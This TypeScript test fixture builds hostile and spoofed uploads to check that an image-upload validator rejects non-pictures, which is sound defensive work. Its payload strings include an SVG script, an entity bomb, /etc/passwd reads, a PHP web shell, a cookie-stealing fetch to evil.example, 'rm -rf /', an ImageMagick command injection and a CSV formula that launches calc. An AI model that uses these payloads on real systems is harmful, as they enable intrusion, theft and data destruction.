import { gzipSync } from 'node:zlib';
import { type HostileUpload, tellTale, upload } from '../../trials/upload/hostile-upload.ts';
import { uint32 } from '../../trials/upload/png.ts';
import type { GoodPictures } from './good-pictures.ts';

const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>alert(1)</script></svg>`;
const entities = `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "${'lol'.repeat(50)}"><!ENTITY b "${'&a;'.repeat(50)}"><!ENTITY c "${'&b;'.repeat(50)}">]><svg xmlns="http://www.w3.org/2000/svg"><text>&c;</text></svg>`;
const outside = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="file:///etc/passwd" width="9" height="9"/></svg>`;

const texts: Record<string, string> = {
  'SVG with a script': svg,
  'SVG behind a byte order mark': `\ufeff${svg}`,
  'SVG behind an XML head': `<?xml version="1.0" encoding="UTF-8"?>\n${svg}`,
  'SVG entity bomb': entities,
  'SVG that reads files': outside,
  'HTML page': `<!doctype html>${tellTale}`,
  'HTML behind a comment': `<!-- JFIF -->${tellTale}`,
  'XHTML page': `<html xmlns="http://www.w3.org/1999/xhtml">${tellTale}</html>`,
  'PDF with a script': '%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj',
  PostScript: '%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd)(r) file',
  'PHP script': '<?php system($_GET["c"]); ?>',
  'JavaScript file': 'fetch("//evil.example/"+document.cookie)//padding',
  'shell script': '#!/bin/sh\nrm -rf / --no-preserve-root\n',
  'ImageMagick MVG': 'push graphic-context\nimage over 0,0 0,0 "|id"\npop graphic-context',
  'ImageMagick MSL': '<?xml version="1.0"?><image><read filename="/etc/passwd"/></image>',
  'portable pixmap': 'P3\n2 2\n255\n255 0 0 0 255 0 0 0 255 9 9 9\n',
  'Radiance HDR': '#?RADIANCE\nFORMAT=32-bit_rle_rgbe\n\n-Y 1 +X 1\n    ',
  'MATLAB file': 'MATLAB 5.0 MAT-file, Platform: PCWIN                ',
  'FITS file': 'SIMPLE  =                    T / conforms to FITS standard   ',
  'X bitmap': '#define a_width 8\n#define a_height 1\nstatic char a_bits[] = {0};',
  '.htaccess': 'AddType application/x-httpd-php .jpg\n# padding padding',
  'the words image/png': 'image/png image/png image/png',
  'data address': 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUg==',
  'CSV formula': '=cmd|\' /C calc\'!A0,"padding","padding"',
};

const heads: Record<string, string> = {
  BMP: '424d46000000000000003600000028000000010000000100000001001800',
  ICO: '00000100010010100000010020006804000016000000',
  PSD: '384250530001000000000000000300000001000000010008',
  'TIFF, big-endian': '4d4d002a000000080000000000000000',
  BigTIFF: '49492b00080000001000000000000000',
  'JPEG XL codestream': 'ff0afa7f0190080600010000000000000000',
  'JPEG XL container': '0000000c4a584c200d0a870a00000014667479706a786c20',
  'JPEG 2000': '0000000c6a5020200d0a870a00000014667479706a703220',
  OpenEXR: '762f310102000000000000000000000000000000',
  'MNG animation': '8a4d4e470d0a1a0a0000001c4d484452',
  'JNG picture': '8b4a4e470d0a1a0a000000104a484452',
  FLIF: '464c4946443300000000000000000000',
  BPG: '425047fb000000000000000000000000',
  'Windows metafile': 'd7cdc69a00000000000000000000000000000000',
  'ZIP archive': '504b0304140000000800000000000000000000000000',
  'ELF program': '7f454c4602010100000000000000000002003e00',
  'Windows program': '4d5a90000300000004000000ffff0000b8000000',
  'WAV in RIFF': '524946462400000057415645666d742010000000',
  'AVI in RIFF': '524946462400000041564920 4c495354'.replace(' ', ''),
  'compressed stream': '28b52ffd0458000000000000000000000000',
  'only zeros': '00'.repeat(2048),
  'only ones': 'ff'.repeat(2048),
  'fifteen bytes of PNG': '89504e470d0a1a0a0000000d494844',
  'two bytes of JPEG': 'ffd8',
  'one byte': 'ff',
  'an empty file': '',
};

const fileType = (...brands: string[]) =>
  Buffer.concat([
    uint32(12 + brands.length * 4),
    Buffer.from(`ftyp${brands[0]}\0\0\0\0${brands.slice(1).join('')}`, 'latin1'),
    Buffer.alloc(64),
  ]);

const behind = (start: string, picture: Buffer) =>
  Buffer.concat([Buffer.from(start, 'latin1'), picture]);

/** Everything that is no picture of ours, under the name of one. */
export function notPictures({ jpeg, png, webp, gif, tiff }: GoodPictures): HostileUpload[] {
  const files: Record<string, Buffer> = {
    ...Object.fromEntries(Object.entries(texts).map(([name, text]) => [name, Buffer.from(text)])),
    ...Object.fromEntries(
      Object.entries(heads).map(([name, hex]) => [name, Buffer.from(hex, 'hex')]),
    ),
    'compressed SVG': gzipSync(svg),
    'HEIC photo': fileType('heic', 'mif1', 'heic'),
    'HEIF sequence': fileType('msf1', 'hevc'),
    'MP4 video': fileType('isom', 'iso2', 'avc1'),
    'HEIC with avif as its version': Buffer.from('0000001866747970686569636176696600000000', 'hex'),
    'true GIF': gif,
    'true TIFF': tiff,
    'JPEG behind a GIF head': behind('GIF89a', jpeg),
    'JPEG behind a PDF head': behind('%PDF-1.4\n', jpeg),
    'PNG behind HTML': behind(tellTale, png),
    'PNG behind a byte order mark': behind('\xef\xbb\xbf', png),
    'JPEG behind a space': behind(' ', jpeg),
    'WebP behind a script': behind('/*', webp),
    'JPEG as base64': Buffer.from(jpeg.toString('base64')),
  };
  return Object.entries(files).map(([name, file]) => upload(name, file, 'not_a_picture'));
}
